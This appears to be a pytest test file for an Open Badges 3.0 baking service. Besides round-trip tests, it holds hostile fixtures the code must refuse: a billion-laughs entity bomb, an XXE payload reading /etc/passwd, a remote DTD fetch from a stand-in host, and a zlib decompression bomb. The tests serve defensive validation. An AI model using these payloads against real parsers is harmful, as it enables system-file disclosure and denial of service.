"""Open Badges 3.0 baking: the 1EdTech samples, round trips, and hostile uploads."""

from __future__ import annotations

import json
import time
import zlib
from pathlib import Path
from xml.etree import ElementTree

import pytest

from verify_api.badges.baking import (
    BadgeFileError,
    UnbakeLimits,
    bake_png,
    bake_svg,
    unbake_badge,
    unbake_png,
    unbake_svg,
)
from verify_api.badges.png_baking import PNG_SIGNATURE, read_chunks
from verify_api.errors import InvalidInputError

VECTORS = Path(__file__).parent.parent / "vectors" / "ob3"
OB3_NS = "https://purl.imsglobal.org/ob/v3p0"
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpZCI6InVybjp1dWlkOjEifQ.c2lnbmF0dXJl"
CREDENTIAL = json.dumps({"id": "urn:uuid:1", "type": ["VerifiableCredential", "OpenBadgeCredential"]})
FAST = 1.0  # seconds: every hostile input must be refused well within this


def chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def make_png(*extra: bytes, width: int = 1, height: int = 1) -> bytes:
    ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    idat = zlib.compress(b"\x00\x00")
    return PNG_SIGNATURE + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + b"".join(extra) + chunk(b"IEND", b"")


def itxt(text: bytes, *, keyword: bytes = b"openbadgecredential", flag: int = 0) -> bytes:
    return chunk(b"iTXt", keyword + b"\0" + bytes([flag, 0]) + b"\0\0" + text)


@pytest.mark.parametrize("name", ["simple-json.png", "simple-json.svg"])
def test_unbake_sample_json_credential_parses(name: str) -> None:
    credential = json.loads(unbake_badge((VECTORS / name).read_bytes()))
    assert "OpenBadgeCredential" in credential["type"]
    assert credential["id"] == "http://example.com/credentials/3527"


@pytest.mark.parametrize("name", ["simple-jwt.png", "simple-jwt.svg"])
def test_unbake_sample_jwt_has_three_parts(name: str) -> None:
    token = unbake_badge((VECTORS / name).read_bytes())
    assert len(token.split(".")) == 3
    assert token.startswith("eyJ")


def test_unbake_png_and_svg_samples_agree_on_the_credential() -> None:
    png = json.loads(unbake_png((VECTORS / "simple-json.png").read_bytes()))
    svg = json.loads(unbake_svg((VECTORS / "simple-json.svg").read_bytes()))
    assert png["credentialSubject"] == svg["credentialSubject"]


@pytest.mark.parametrize("credential", [CREDENTIAL, JWT])
def test_bake_png_round_trips(credential: str) -> None:
    assert unbake_png(bake_png(make_png(), credential)) == credential


def test_bake_png_twice_replaces_the_chunk() -> None:
    baked = bake_png(bake_png(make_png(), JWT), CREDENTIAL)
    assert baked.count(b"openbadgecredential") == 1
    assert unbake_png(baked) == CREDENTIAL
    kinds = [c.kind for c in read_chunks(baked)]
    assert kinds[-2:] == [b"iTXt", b"IEND"]


def test_bake_png_writes_an_uncompressed_itxt_with_empty_tags() -> None:
    baked = bake_png(make_png(), JWT)
    (credential,) = [c for c in read_chunks(baked) if c.kind == b"iTXt"]
    assert credential.body == b"openbadgecredential\0\0\0\0\0" + JWT.encode()


def test_bake_png_sample_replaces_its_credential() -> None:
    baked = bake_png((VECTORS / "simple-jwt.png").read_bytes(), CREDENTIAL)
    assert unbake_png(baked) == CREDENTIAL
    assert baked.count(b"openbadgecredential") == 1


@pytest.mark.parametrize("credential", [CREDENTIAL, JWT, '{"note": "a ]]> inside"}'])
def test_bake_svg_round_trips(credential: str) -> None:
    svg = (VECTORS / "simple-json.svg").read_text()
    assert unbake_svg(bake_svg(svg, credential).encode()) == credential


def test_bake_svg_puts_the_credential_first_and_replaces_it() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><title>t</title></svg>'
    baked = bake_svg(bake_svg(svg, CREDENTIAL), JWT)
    root = ElementTree.fromstring(baked)
    assert root[0].tag == f"{{{OB3_NS}}}credential"
    assert root[0].get("verify") == JWT
    assert len(root.findall(f"{{{OB3_NS}}}credential")) == 1
    assert f'xmlns:openbadges="{OB3_NS}"' in baked


def test_bake_svg_json_uses_cdata() -> None:
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg"/>', CREDENTIAL)
    assert f"<openbadges:credential><![CDATA[{CREDENTIAL}]]></openbadges:credential>" in baked


def test_bake_svg_refuses_an_openbadges_prefix_bound_elsewhere() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"/>'
    with pytest.raises(BadgeFileError, match="another namespace"):
        bake_svg(svg, CREDENTIAL)


def test_bake_refuses_a_credential_that_is_neither_json_nor_jws() -> None:
    with pytest.raises(ValueError, match="JSON object or a compact JWS"):
        bake_svg('<svg xmlns="http://www.w3.org/2000/svg"/>', "hello")
    with pytest.raises(ValueError, match="empty"):
        bake_png(make_png(), "  ")


def test_unbake_errors_are_invalid_input() -> None:
    assert issubclass(BadgeFileError, InvalidInputError)


def test_unbake_png_without_credential_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="holds no openbadgecredential iTXt chunk"):
        unbake_png(make_png())


def test_unbake_png_with_only_an_ob2_assertion_says_so() -> None:
    with pytest.raises(BadgeFileError, match=r"Open Badges 2\.0"):
        unbake_png(make_png(itxt(JWT.encode(), keyword=b"openbadges")))


def test_unbake_png_duplicate_credential_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="more than one"):
        unbake_png(make_png(itxt(b"{}"), itxt(b"{}")))


def test_unbake_png_tampered_crc_is_refused() -> None:
    data = bytearray((VECTORS / "simple-json.png").read_bytes())
    at = data.index(b"Teamwork Badge")
    data[at] ^= 0x20
    with pytest.raises(BadgeFileError, match="iTXt chunk fails its CRC check"):
        unbake_png(bytes(data))


def test_unbake_png_truncated_mid_chunk_is_refused() -> None:
    data = (VECTORS / "simple-json.png").read_bytes()
    with pytest.raises(BadgeFileError, match="PNG chunk length exceeds file size"):
        unbake_png(data[: len(data) // 2])


def test_unbake_png_truncated_before_iend_is_refused() -> None:
    data = (VECTORS / "simple-json.png").read_bytes()
    with pytest.raises(BadgeFileError, match="truncated"):
        unbake_png(data[:-12])


def test_unbake_png_data_after_iend_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="after its IEND"):
        unbake_png(make_png(itxt(b"{}")) + b"junk")


def test_unbake_png_bad_signature_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="signature"):
        unbake_png(b"GIF89a" + bytes(100))


def test_unbake_png_oversized_input_is_refused_quickly() -> None:
    started = time.perf_counter()
    with pytest.raises(BadgeFileError, match="larger than"):
        unbake_png(make_png(itxt(b"{}")) + bytes(6 * 1024 * 1024))
    assert time.perf_counter() - started < FAST


def test_unbake_png_huge_dimensions_are_refused() -> None:
    with pytest.raises(BadgeFileError, match="at most 8192 per side"):
        unbake_png(make_png(itxt(b"{}"), width=1_000_000, height=1_000_000))


def test_unbake_png_huge_chunk_length_is_refused() -> None:
    data = make_png()[:33] + (2**31 + 5).to_bytes(4, "big") + b"tEXt" + bytes(20)
    with pytest.raises(BadgeFileError, match="larger than the PNG format allows"):
        unbake_png(data)


def test_unbake_png_too_many_chunks_is_refused() -> None:
    many = chunk(b"tEXt", b"k\0v") * 50
    with pytest.raises(BadgeFileError, match="more than 40 chunks"):
        unbake_png(make_png(many, itxt(b"{}")), limits=UnbakeLimits(max_png_chunks=40))


def test_unbake_png_compressed_bomb_is_refused_quickly() -> None:
    bomb = zlib.compress(b"{" + b" " * (200 * 1024 * 1024), 9)  # ~200 KB that would inflate to 200 MB
    started = time.perf_counter()
    with pytest.raises(BadgeFileError, match="compressed; Open Badges baking forbids compression"):
        unbake_png(make_png(itxt(bomb, flag=1)))
    assert time.perf_counter() - started < FAST


def test_unbake_png_oversized_credential_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="credential is larger than 10 bytes"):
        unbake_png(make_png(itxt(b"{" + b" " * 20 + b"}")), limits=UnbakeLimits(max_credential_bytes=10))


def test_unbake_png_invalid_utf8_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="not valid UTF-8"):
        unbake_png(make_png(itxt(b"\xff\xfe")))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol9;</openbadges:credential></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_unbake_svg_entity_documents_are_refused_quickly(document: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(BadgeFileError, match="declares XML entities"):
        unbake_svg(document)
    assert time.perf_counter() - started < FAST


def test_bake_svg_billion_laughs_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="declares XML entities"):
        bake_svg(BILLION_LAUGHS.decode(), CREDENTIAL)


def test_unbake_svg_without_credential_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="holds no openbadges:credential element"):
        unbake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>')


def test_unbake_svg_non_svg_root_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="root element is not <svg>"):
        unbake_svg(b"<html><body/></html>")


def test_unbake_svg_malformed_xml_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="not well-formed XML"):
        unbake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')


@pytest.mark.parametrize("encoding", ["x-unknown", "UTF-7", "utf-32"])
def test_unbake_svg_unsupported_encoding_is_refused(encoding: str) -> None:
    """expat raised LookupError / ValueError for these, which reached the client as a 500."""
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
    with pytest.raises(BadgeFileError, match="XML encoding that is not supported"):
        unbake_svg(declaration + b'<svg xmlns="http://www.w3.org/2000/svg"/>')


def test_unbake_svg_too_many_elements_is_refused() -> None:
    document = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * 200 + b"</svg>"
    with pytest.raises(BadgeFileError, match="more than 100 elements"):
        unbake_svg(document, limits=UnbakeLimits(max_svg_elements=100))


def test_unbake_svg_deep_nesting_is_refused() -> None:
    document = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 500 + b"</g>" * 500 + b"</svg>"
    with pytest.raises(BadgeFileError, match="deeper than 64 levels"):
        unbake_svg(document)


def test_unbake_svg_oversized_input_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="SVG is larger than 1000 bytes"):
        unbake_svg(b" " * 1001, limits=UnbakeLimits(max_bytes=1000))


def test_unbake_svg_both_verify_and_content_is_refused() -> None:
    document = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">'
        f'<openbadges:credential verify="{JWT}">{{}}</openbadges:credential></svg>'
    ).encode()
    with pytest.raises(BadgeFileError, match="both a verify attribute and content"):
        unbake_svg(document)


def test_unbake_svg_duplicate_credential_is_refused() -> None:
    element = f'<openbadges:credential verify="{JWT}"/>'
    document = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">{element * 2}</svg>'
    with pytest.raises(BadgeFileError, match="more than one"):
        unbake_svg(document.encode())


def test_unbake_badge_unknown_format_is_refused() -> None:
    with pytest.raises(BadgeFileError, match="neither a PNG nor an SVG"):
        unbake_badge(b"GIF89a....")
